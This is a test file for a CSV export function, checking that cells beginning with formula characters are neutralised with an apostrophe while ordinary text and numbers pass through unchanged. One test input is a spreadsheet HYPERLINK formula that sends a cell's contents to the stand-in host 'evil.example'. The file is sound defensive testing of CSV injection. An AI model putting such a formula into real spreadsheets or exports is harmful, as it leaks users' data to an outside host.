import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, writeCsv } from './export';

describe('the CSV writer', () => {
  it.each(['=1+1', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '=HYPERLINK("https://evil.example/?"&A1,"Klikk")'])(
    'writes the text %j so that spreadsheets show it as text',
    (text) => {
      const csv = writeCsv(['cell'], [[text]]);
      const [row] = parse(csv, { columns: true }) as { cell: string }[];
      expect(row!.cell).toBe(`'${text}`);
      // Quoted as RFC 4180 says, inner quotes doubled.
      expect(csv.split('\n')[1]).toBe(`"'${text.replaceAll('"', '""')}"`);
    },
  );

  it('leaves other text alone, and numbers (negative ones too) as numbers', () => {
    expect(neutraliseFormula('Klimasats')).toBe('Klimasats');
    expect(neutraliseFormula(' =1')).toBe(' =1');
    expect(neutraliseFormula('1-2')).toBe('1-2');
    expect(neutraliseFormula('')).toBe('');
    const csv = writeCsv(['text', 'number', 'negative', 'share', 'flag', 'empty'], [['-5', 250_000, -5, 0.75, true, null]]);
    expect(csv).toBe('"text","number","negative","share","flag","empty"\n"\'-5",250000,-5,0.75,"true",\n');
  });
});
